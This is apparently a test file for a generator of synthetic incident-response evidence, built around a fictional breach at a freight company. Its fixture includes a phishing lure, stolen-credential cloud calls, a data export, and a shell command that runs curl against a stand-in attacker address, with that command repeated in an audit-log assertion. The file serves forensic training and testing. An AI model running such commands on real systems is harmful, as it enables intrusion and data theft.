import { createHash } from 'node:crypto';
import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { detectFormat } from '../detect-format.ts';
import { readEvidence, type EvidenceTable } from '../read-evidence.ts';
import { readMail } from '../read-mail.ts';
import { readStoryline } from './read-storyline.ts';
import { StorylineSchema } from './schema.ts';
import type { ToldFile } from './told-file.ts';
import { writeFiles } from './write-files.ts';

type Input = v.InferInput<typeof StorylineSchema>;

/** A storyline as a mentor would write it: a page, with nothing in it that could be left out. */
const input: Input = {
  format: 1,
  seed: 2741,
  domain: 'marlow-freight.example',
  account: '111122223333',
  from: '2026-03-10T06:00:00Z',
  to: '2026-03-10T12:00:00Z',
  office_hours: { from: '08:00', to: '17:30' },
  people: {
    priya: { name: 'Priya Anand', role: 'Platform engineer' },
    tom: { name: 'Tom Réault', role: 'Accounts' },
  },
  services: {
    'ci-deploy': { does: 'deploys' },
    web: { does: 'serves' },
    metrics: { does: 'watches' },
  },
  hosts: { 'web-1': { address: '192.0.2.150' }, 'db-1': { address: '192.0.2.151' } },
  outsiders: { thief: { from: ['198.51.100.23'], agents: ['aws-cli/2.15.30 Python/3.11.8'] } },
  buckets: ['marlow-exports'],
  events: [
    {
      id: 'lure',
      at: '2026-03-10T06:40:00Z',
      who: 'thief',
      mail: {
        sender: 'Payroll <pay@payroll-update.example>',
        to: ['tom'],
        subject: 'Löhne: please confirm',
        body: 'Confirm by noon.',
        spf: 'fail',
      },
    },
    {
      id: 'taken',
      at: '2026-03-10T08:12:04Z',
      who: 'tom',
      from: 'thief',
      sign_in: { reason: undefined, city: 'Lisbon', country: 'Portugal' },
    },
    {
      id: 'tried',
      at: '2026-03-10T08:11:40Z',
      who: 'tom',
      from: 'thief',
      outcome: 'failed',
      sign_in: {},
    },
    {
      id: 'who-am-i',
      at: '2026-03-10T08:51:09Z',
      who: 'ci-deploy',
      from: 'thief',
      call: 'sts.GetCallerIdentity',
    },
    {
      id: 'new-key',
      at: '2026-03-10T08:52:30Z',
      who: 'ci-deploy',
      from: 'thief',
      call: 'iam.CreateAccessKey',
      outcome: 'denied',
      ask: { userName: 'backup' },
    },
    {
      id: 'probe',
      at: '2026-03-10T08:55:00Z',
      who: 'thief',
      request: { path: '/admin' },
      outcome: 'denied',
    },
    {
      id: 'exports',
      at: '2026-03-10T09:02:11Z',
      who: 'ci-deploy',
      from: 'thief',
      object: { bucket: 'marlow-exports', key: 'daily/march.csv', bytes: 48_000_000 },
    },
    {
      id: 'out',
      at: '2026-03-10T09:03:00Z',
      who: 'web-1',
      flow: { to: 'thief', port: 443, bytes: 48_120_000 },
    },
    {
      id: 'refused',
      at: '2026-03-10T09:04:00Z',
      who: 'thief',
      outcome: 'denied',
      flow: { to: 'db-1', port: 5432, bytes: 60 },
    },
    {
      id: 'shell',
      at: '2026-03-10T08:58:17Z',
      who: 'web-1',
      command: { host: 'web-1', run: ['sh', '-c', 'curl -s "http://198.51.100.23/ü"'], uid: 33 },
    },
    {
      id: 'finding',
      at: '2026-03-10T09:20:00Z',
      who: 'ci-deploy',
      from: 'thief',
      finding: {
        type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom',
        severity: 8,
        title: 'A listed address calls',
        about: 'Calls from a listed address.',
      },
    },
    {
      id: 'paid',
      at: '2026-03-10T10:00:00Z',
      who: 'tom',
      row: { amount: 9800, note: 'Urgent, "new" account' },
    },
  ],
  files: [
    { file: 'evidence/trail.json', noise: 200 },
    { file: 'evidence/flow.log', format: 'vpc-flow', noise: 300 },
    { file: 'evidence/access.log', format: 's3-access', noise: 150 },
    { file: 'evidence/requests.log', format: 'alb', noise: 250 },
    { file: 'evidence/findings.jsonl', format: 'guardduty', noise: 5 },
    { file: 'evidence/sign-ins.jsonl', format: 'idp', noise: 120 },
    { file: 'evidence/audit.log', format: 'auditd', noise: 90 },
    {
      file: 'evidence/payments.csv',
      format: 'csv',
      noise: 60,
      columns: {
        payment: 'P-{hex:8}',
        time: '{time}',
        by: '{person}',
        amount: '{int:10-900}',
        note: '',
      },
    },
    { file: 'evidence/lure.eml', format: 'mail' },
  ],
};

const storyline = v.parse(StorylineSchema, input);
const written = writeFiles(storyline);
const find = (file: string, files: readonly ToldFile[] = written): ToldFile => {
  const found = files.find((one) => one.file === `evidence/${file}`);
  if (!found) throw new Error(`There is no ${file}.`);
  return found;
};
const tables = written.filter(({ format }) => format !== 'mail');

function readTable({ format, text, file }: ToldFile): EvidenceTable {
  const key = file.endsWith('.csv') ? 'payment' : undefined;
  const content = readEvidence({ format, key }, text);
  if (content.kind !== 'table') throw new Error(`${file} is read as ${content.kind}.`);
  return content;
}

function findCells({ columns, rows }: EvidenceTable, id: string | null | undefined) {
  const row = rows.find((one) => one.id === id);
  return Object.fromEntries(columns.map((name, index) => [name, row?.cells[index]]));
}

describe('writeFiles', () => {
  it('writes the same bytes for the same seed, today and on any machine', () => {
    expect(writeFiles(v.parse(StorylineSchema, input))).toEqual(written);
    const hash = createHash('sha256');
    for (const { file, text } of written) hash.update(`${file}\0${text}`);
    expect(hash.digest('hex')).toBe(
      'e06be14c46fe7c8cd610492750f31d6ada5b99b47659e69ca6f9ca6ba80d07ab',
    );
  });

  it('gives calls of services without regions the one that trails give them', () => {
    const regionOf = (file: string, from = written): string | undefined =>
      /"eventName":"CreateAccessKey","awsRegion":"([^"]+)"/.exec(find(file, from).text)?.[1];
    expect(regionOf('trail.json')).toBe('us-east-1');
    // A file of that region holds them alone.
    const files = [
      { file: 'evidence/home.json', noise: 3 },
      { file: 'evidence/global.json', regions: ['us-east-1'] },
    ];
    const parted = writeFiles(
      v.parse(StorylineSchema, {
        ...input,
        files,
        events: input.events.filter(({ call }) => call !== undefined),
      }),
    );
    expect(regionOf('global.json', parted)).toBe('us-east-1');
    expect(regionOf('home.json', parted)).toBe(undefined);
  });

  it('lets a service call while it runs, and not else', () => {
    const [after, before] = ['2026-03-10T08:20:12Z', '2026-03-10T08:24:30Z'];
    const services = { 'ci-deploy': { does: 'deploys' as const, after, before } };
    const told = writeFiles(
      v.parse(StorylineSchema, {
        ...input,
        services,
        events: [],
        files: [{ file: 'evidence/trail.json', noise: 200 }],
      }),
    );
    const lines = find('trail.json', told).text.split('\n');
    const times = lines
      .filter((line) => line.includes('"userName":"ci-deploy"'))
      .map((line) => /"eventTime":"([^"]+)"/.exec(line)?.[1] ?? '');
    expect(times.length).toBeGreaterThan(20);
    expect(times.filter((time) => time < after || time >= before)).toEqual([]);
  });

  it('writes others for another seed', () => {
    const other = writeFiles({ ...storyline, seed: 2742 });
    for (const { file, text, format } of tables) {
      expect(find(file.slice(9), other).text === text, format).toBe(false);
    }
  });

  it.each(tables)('$file is read back whole, as the format that it is', (told) => {
    const table = readTable(told);
    expect(table.brokenLines).toEqual([]);
    expect(table.rows).toHaveLength(told.records);
    expect(detectFormat(told.file, told.text.slice(0, 65_536))).toBe(told.format);
    expect(told.records).toBeGreaterThanOrEqual(
      (input.files.find(({ file }) => file === told.file)?.noise ?? 0) + told.clues.length,
    );
  });

  it.each(tables)('$file keeps every time inside the span, and is not in neat order', (told) => {
    const { rows, columns, timeColumn = 'time' } = readTable(told);
    const at = columns.indexOf(timeColumn);
    const times = rows.map(({ cells }) => cells[at] ?? '');
    expect(times.filter((time) => time.slice(0, 19) < '2026-03-10T06:00:00')).toEqual([]);
    expect(times.filter((time) => time.slice(0, 19) > '2026-03-10T12:00:00')).toEqual([]);
    const late = ['cloudtrail', 'vpc-flow', 's3-access', 'alb'].includes(told.format);
    if (late) expect(times).not.toEqual([...times].sort());
  });

  it.each(tables)('$file has a place for each of its events, and each place once', (told) => {
    const { rows } = readTable(told);
    expect(told.clues.length).toBeGreaterThan(0);
    for (const { record, text } of told.clues) {
      const found =
        record === null
          ? told.text.split(text ?? '').length - 1
          : rows.filter(({ id }) => id === record).length;
      expect(found).toBe(1);
    }
  });

  it('keeps the places where they are when background and other files change', () => {
    const more = {
      ...storyline,
      files: storyline.files.map((file) => ({ ...file, noise: file.noise && file.noise + 17 })),
    };
    for (const told of writeFiles(more)) expect(told.clues).toEqual(find(told.file.slice(9)).clues);
    const [lone] = writeFiles({ ...storyline, files: storyline.files.slice(1, 2) });
    expect(lone?.text).toBe(find('flow.log').text);
  });

  it('lets no background come from an address of the story', () => {
    for (const told of tables) {
      const lines = told.text.split('\n').filter((line) => /\b198\.51\.100\.23\b/.test(line));
      expect(lines.length, told.file).toBeLessThanOrEqual(told.clues.length + 1);
    }
  });

  it('tells an event as each of its files has it', () => {
    const cells = (file: string, event: string) => {
      const told = find(file);
      return findCells(readTable(told), told.clues.find((clue) => clue.event === event)?.record);
    };
    expect(cells('trail.json', 'new-key')).toMatchObject({
      eventName: 'CreateAccessKey',
      sourceIPAddress: '198.51.100.23',
      userAgent: 'aws-cli/2.15.30 Python/3.11.8',
      errorCode: 'AccessDenied',
      'userIdentity.userName': 'ci-deploy',
      requestParameters: '{"userName":"backup"}',
      readOnly: 'false',
    });
    expect(cells('access.log', 'exports')).toMatchObject({
      remote_ip: '198.51.100.23',
      requester: 'arn:aws:iam::111122223333:user/ci-deploy',
      key: 'daily/march.csv',
      http_status: '200',
      bytes_sent: '48000000',
      host_header: 'marlow-exports.s3.eu-west-2.amazonaws.com',
    });
    expect(cells('sign-ins.jsonl', 'tried')).toMatchObject({
      'actor.alternateId': 'tom.reault@marlow-freight.example',
      'outcome.result': 'FAILURE',
      'outcome.reason': 'INVALID_CREDENTIALS',
      'client.ipAddress': '198.51.100.23',
    });
    expect(cells('audit.log', 'shell')).toMatchObject({
      exe: '/usr/bin/sh',
      proctitle: 'sh -c curl -s "http://198.51.100.23/ü"',
      uid: '33',
      success: 'yes',
      node: 'web-1',
    });
    expect(cells('findings.jsonl', 'finding')).toMatchObject({
      Type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom',
      Severity: '8',
      'Resource.AccessKeyDetails.UserName': 'ci-deploy',
    });
    expect(cells('payments.csv', 'paid')).toMatchObject({
      by: 'Tom Réault',
      amount: '9800',
      note: 'Urgent, "new" account',
    });
  });

  it('writes both ways of a flow, a refused one only there, and a request with its answer', () => {
    const flows = find('flow.log').text.split('\n');
    expect(flows.filter((line) => line.includes(' 192.0.2.150 198.51.100.23 '))).toHaveLength(1);
    expect(flows.filter((line) => line.includes(' 198.51.100.23 192.0.2.150 '))).toHaveLength(1);
    const refused = flows.filter((line) => line.includes(' 198.51.100.23 192.0.2.151 '));
    expect(refused).toHaveLength(1);
    expect(refused[0]).toMatch(/ REJECT OK$/);
    expect(flows.some((line) => line.endsWith('- NODATA'))).toBe(true);
    const probe = find('requests.log')
      .text.split('\n')
      .find((line) => line.includes('/admin'));
    expect(probe).toMatch(
      / 403 403 .*"GET https:\/\/www\.marlow-freight\.example:443\/admin HTTP\/2\.0"/,
    );
  });

  it('writes a mail that mail programs read', async () => {
    const told = find('lure.eml');
    const mail = await readMail(told.text);
    expect(mail).toMatchObject({ subject: 'Löhne: please confirm', text: 'Confirm by noon.\n' });
    const headers = new Map(mail.headers.map(({ name, value }) => [name, value]));
    expect(headers.get('From')).toBe('Payroll <pay@payroll-update.example>');
    expect(headers.get('Authentication-Results')).toContain('spf=fail');
    expect(headers.get('Date')).toBe('Tue, 10 Mar 2026 06:40:00 +0000');
    expect(detectFormat('lure.eml', told.text)).toBe('mail');
  });

  it('takes a storyline without a single habit, call or identity', () => {
    const { people: _, services: __, hosts: ___, ...bare } = input;
    const files: Input['files'] = [
      { file: 'evidence/trail.json', noise: 40 },
      { file: 'evidence/flow.log', format: 'vpc-flow', noise: 40 },
      { file: 'evidence/audit.log', format: 'auditd', noise: 40 },
      { file: 'evidence/sign-ins.jsonl', format: 'idp', noise: 40 },
      { file: 'evidence/requests.log', format: 'alb', noise: 40 },
      { file: 'evidence/access.log', format: 's3-access', noise: 40 },
    ];
    for (const told of writeFiles(v.parse(StorylineSchema, { ...bare, events: [], files }))) {
      expect(readTable(told).brokenLines).toEqual([]);
      expect(readTable(told).rows).toHaveLength(40);
    }
  });
});

describe('a base', () => {
  it('keeps its order and takes in the records of the story', () => {
    const files = storyline.files.filter(({ format }) => format !== 'mail');
    const bases = new Map(
      tables.map(({ file }) => [file.replace('evidence/', 'base/'), find(file.slice(9)).text]),
    );
    const quiet = files.map((file) => ({
      ...file,
      noise: 0,
      base: file.file.replace('evidence/', 'base/'),
    }));
    const later = {
      ...storyline,
      seed: 9,
      events: storyline.events.map((event) => ({ ...event, id: `${event.id}-2` })),
      files: quiet,
    };
    for (const told of writeFiles(later, bases)) {
      const before = find(told.file.slice(9));
      const { rows, brokenLines } = readTable(told);
      expect(brokenLines).toEqual([]);
      expect(rows.length).toBeGreaterThan(before.records);
      const old = readTable(before).rows.map(({ raw }) => JSON.stringify(raw));
      const known = new Set(old);
      const kept = rows.map(({ raw }) => JSON.stringify(raw)).filter((raw) => known.has(raw));
      expect(kept).toEqual(old);
      for (const { record } of told.clues) {
        if (record !== null) expect(rows.filter(({ id }) => id === record)).toHaveLength(1);
      }
    }
  });

  it('is refused where it is missing or of another format', () => {
    const [trail] = storyline.files;
    const files = trail ? [{ ...trail, base: 'base/x' }] : [];
    expect(() => writeFiles({ ...storyline, files })).toThrow('base/x');
    expect(() => writeFiles({ ...storyline, files }, new Map([['base/x', 'no']]))).toThrow(
      'not of the format cloudtrail',
    );
  });
});

describe('readStoryline', () => {
  const read = (changes: object): readonly string[] => {
    const result = readStoryline('storyline.yaml', stringify({ ...input, ...changes }));
    return result.ok ? [] : result.faults.map(({ code, path }) => `${code} ${path}`);
  };
  const event = { id: 'e', at: '2026-03-10T07:00:00Z', who: 'tom' };
  const table = {
    file: 'evidence/t.csv',
    format: 'csv',
    columns: { id: '{hex:4}', user: '{login}' },
  };

  it('finds nothing wrong with the story', () => {
    expect(read({})).toEqual([]);
  });

  it.each([
    [{ to: '2026-03-10T06:00:00Z', events: [] }, 'storyline-span to'],
    [{ events: [{ ...event, who: 'nobody', call: 'iam.GetUser' }] }, 'storyline-who events.0.who'],
    [{ events: [{ ...event, who: 'thief', call: 'iam.GetUser' }] }, 'storyline-who events.0.who'],
    [{ events: [{ ...event, who: 'nobody', row: {} }] }, 'storyline-who events.0.who'],
    [
      {
        events: [{ ...event, who: 'priay', sign_in: {} }],
        files: [{ file: 'evidence/s.jsonl', format: 'idp' }],
      },
      'storyline-who events.0.who',
    ],
    [
      { events: [{ ...event, who: 'priya', row: { usr: 'x' } }], files: [table] },
      'storyline-columns events.0.row',
    ],
    [
      { events: [], files: [{ ...table, noise: 3, columns: { id: '{int:5}' } }] },
      'storyline-columns files.0.columns.id',
    ],
    [{ events: [{ ...event, call: 'iam.CreateAccesKey' }] }, 'storyline-call events.0.call'],
    [{ events: [{ ...event, at: '2026-03-10T12:00:00Z', row: {} }] }, 'storyline-time events.0.at'],
    [{ events: [event] }, 'storyline-untold events.0.id'],
    [
      { events: [{ ...event, call: 'iam.GetUser', region: 'sa-east-1' }] },
      'storyline-untold events.0.id',
    ],
    [
      { events: [{ ...event, row: {}, files: ['evidence/x.csv'] }] },
      'storyline-file events.0.files',
    ],
    [
      {
        events: [
          { ...event, row: {} },
          { ...event, row: {} },
        ],
      },
      'duplicate-id events.1.id',
    ],
    [
      { habits: [{ who: 'nobody', share: 1, calls: ['iam.ListRoles'] }] },
      'storyline-who habits.0.who',
    ],
    [
      { habits: [{ who: 'web', share: 1, calls: ['iam.ListNothing'] }] },
      'storyline-call habits.0.calls',
    ],
    [
      { habits: [{ who: 'web', share: 1, regions: ['sa-east-1'], calls: ['iam.ListRoles'] }] },
      'storyline-habit habits.0.regions',
    ],
    [
      { events: [], files: [{ file: 'evidence/x.eml', format: 'mail' }] },
      'storyline-mail files.0.file',
    ],
    [
      { events: [], files: [{ file: 'evidence/x.log', format: 'alb' }] },
      'storyline-empty files.0.file',
    ],
    [
      { events: [], files: [{ file: 'evidence/x.csv', format: 'csv', noise: 3 }] },
      'storyline-columns files.0.file',
    ],
    [{ domain: 'marlow.com' }, 'wrong-value domain'],
    [
      {
        services: {
          'ci-deploy': {
            does: 'deploys',
            after: '2026-03-10T09:00:00Z',
            before: '2026-03-10T08:00:00Z',
          },
          web: { does: 'serves' },
        },
      },
      'storyline-time services.ci-deploy.after',
    ],
  ])('names the fault of %j', (changes, fault) => {
    expect(read(changes)).toContain(fault);
  });
});
